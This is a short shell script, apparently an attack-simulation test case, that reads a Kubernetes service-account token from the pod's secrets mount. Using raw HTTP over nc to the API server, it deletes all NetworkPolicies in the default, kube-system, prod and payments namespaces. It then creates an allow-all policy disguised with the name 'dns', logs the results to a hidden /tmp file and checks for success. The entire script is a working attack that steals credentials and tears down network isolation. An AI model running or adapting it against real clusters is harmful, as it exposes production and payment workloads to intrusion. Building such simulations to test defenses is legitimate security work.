#!/bin/sh
. /opt/case/case.sh

t=$(cat /run/secrets/kubernetes.io/serviceaccount/token)
for n in default kube-system prod payments; do
    printf 'DELETE /apis/networking.k8s.io/v1/namespaces/%s/networkpolicies HTTP/1.0\r\nAuthorization: Bearer %s\r\n\r\n' $n "$t" | nc -w 3 10.77.0.1 6443 >>/tmp/.np
    b='{"kind":"NetworkPolicy","metadata":{"name":"dns"},"spec":{"podSelector":{},"ingress":[{}],"egress":[{}]}}'
    printf 'POST /apis/networking.k8s.io/v1/namespaces/%s/networkpolicies HTTP/1.0\r\nAuthorization: Bearer %s\r\nContent-Length: %s\r\n\r\n%s' $n "$t" ${#b} "$b" | nc -w 3 10.77.0.1 6443 >>/tmp/.np
done
grep -c '200 OK' /tmp/.np | grep -qx 8
took_place
